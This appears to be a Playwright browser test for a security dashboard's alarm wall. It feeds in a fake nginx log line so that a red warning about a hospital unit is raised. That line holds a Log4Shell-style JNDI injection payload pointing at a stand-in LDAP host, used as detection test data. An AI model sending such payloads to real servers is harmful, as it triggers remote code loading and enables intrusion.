"""The wall in a real browser: mute until somebody clicks, and taken by a red warning for ten seconds."""

import time
from collections.abc import Callable

import pytest
from playwright.sync_api import sync_playwright

from tests.service.conftest import Platform, program
from tests.service.test_clients import post
from tests.service.test_road import set_up, sign_in

pytestmark = [pytest.mark.service, pytest.mark.browser]
LINE = '192.0.2.7 - - [{}] "GET /?x=$%7bjndi:ldap://198.51.100.66/a%7d HTTP/1.1" 200 5 "-" "x"'


def attack(platform: Platform, token: str) -> None:
    line = LINE.format(time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime()))
    answer = post(f"{platform.ingest}ingest", line.encode(), {"Authorization": f"Bearer {token}"})
    assert answer[0] == 200


def test_a_red_warning_takes_the_wall_with_sound(platform: Platform) -> None:
    platform.cli("units", "add", "--code", "hosp", "--name", "县人民医院", "--importance", "vital")
    source = ["sources", "add", "--unit", "hosp", "--kind", "nginx"]
    old = platform.json(*source, "--asset", "old.example")["token"]
    token = platform.json(*source, "--asset", "his.example")["token"]
    password = platform.json("user", "add", "duty", "--role", "duty-officer")["password"]
    set_up(platform)
    attack(platform, old)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program("chromium"), args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 1920, "height": 1080})
        problems: list[str] = []
        page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: problems.append(str(error)))
        sign_in(page, platform.console, password)
        time.sleep(11)
        page.goto(platform.console + "wall/")
        waits: Callable[[str, int], object] = lambda script, ms: page.wait_for_function(script, timeout=ms)  # noqa: E731
        assert page.is_visible("#sound.wall-mute")
        page.click("#sound-on")
        waits("() => document.querySelector('.wall').dataset.sound === 'on'", 15_000)
        assert not page.is_visible("#sound-on")
        page.wait_for_timeout(2500)
        assert not page.is_visible("#alarm"), "what was raised before the wall was opened does not take it"
        attack(platform, token)
        waits("() => !document.getElementById('alarm').hidden", 20_000)
        assert "县人民医院" in page.inner_text("#alarm")
        shown = time.monotonic()
        waits("() => document.getElementById('alarm').hidden", 30_000)
        assert time.monotonic() - shown > 8
        page.wait_for_timeout(2500)
        assert not page.is_visible("#alarm"), "a warning takes the wall once"
        assert problems == [], "no script fails, and none is blocked by the policy"
        page.context.set_offline(True)
        waits("() => !document.getElementById('lost').hidden", 30_000)
        page.context.set_offline(False)
        waits("() => document.getElementById('lost').hidden", 30_000)
        browser.close()
